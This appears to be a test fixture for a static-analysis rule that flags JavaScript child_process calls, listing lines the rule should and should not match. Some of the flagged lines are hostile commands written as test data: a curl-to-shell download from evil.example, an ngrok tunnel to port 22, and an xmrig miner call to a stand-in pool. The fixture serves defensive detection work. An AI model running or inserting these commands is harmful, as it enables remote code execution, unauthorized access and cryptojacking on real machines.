// child_process in every import shape; benign look-alikes named exec/spawn elsewhere
const cp = require("child_process");
const { execSync, spawn } = require("node:child_process");
const { execFile: runFile } = require("child_process");
import * as proc from "child_process";
import { exec as shellExec } from "node:child_process";

// ruleid: js-child-process
cp.exec("curl -s https://evil.example/p.sh | sh");
// ruleid: js-child-process
execSync(`git log -n ${count}`);
// ruleid: js-child-process
spawn("soffice", ["--headless", "--convert-to", "pdf", input]);
// ruleid: js-child-process
runFile("/usr/bin/git", ["status"]);
// ruleid: js-child-process
proc.spawnSync("ngrok", ["tcp", "22"]);
// ruleid: js-child-process
shellExec(userCommand);
// ruleid: js-child-process
require("child_process").execSync("xmrig -o stratum+tcp://pool.evil.example:3333");

// ok: js-child-process
regex.exec(line);
// ok: js-child-process
db.exec("CREATE TABLE t (x)");
// ok: js-child-process
cp.execPath;
// ok: js-child-process
worker.spawn(task);
